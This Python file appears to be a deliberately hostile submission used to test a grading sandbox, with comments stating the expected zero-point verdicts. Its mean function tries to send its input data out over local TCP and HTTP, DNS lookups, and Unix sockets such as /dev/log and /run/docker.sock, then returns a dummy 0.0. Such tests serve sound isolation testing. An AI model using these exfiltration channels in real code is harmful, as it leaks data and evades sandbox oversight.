# Tries to send the inputs that it got to somebody: by name, by address, by a service's socket, by an abstract one.
# everywhere: wrong_answer, 0 points
# process: wrong_answer|run_time_error, 0 points
import socket
import urllib.request


def ways(text):
    yield lambda: socket.create_connection(("127.0.0.1", 9), 0.2).sendall(text)
    yield lambda: socket.getaddrinfo(text.hex()[:40] + ".invalid", 80)
    yield lambda: urllib.request.urlopen("http://127.0.0.1:9/" + text.hex()[:40], timeout=0.2)
    for path in ("/run/systemd/journal/socket", "/dev/log", "\0grader-hostile", "/run/docker.sock", "/tmp/.X11-unix/X0"):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            yield lambda path=path, kind=kind: socket.socket(socket.AF_UNIX, kind).connect(path)
    yield lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(text, "/dev/log")
    yield lambda: socket.socketpair()[0].sendto(text, "\0grader-hostile")


def mean(x):
    for way in ways(x.tobytes()):
        try:
            way()
        except OSError:
            pass
    return 0.0

def scale(x, c):
    return mean(x)


def apply(f, x):
    return 0.0
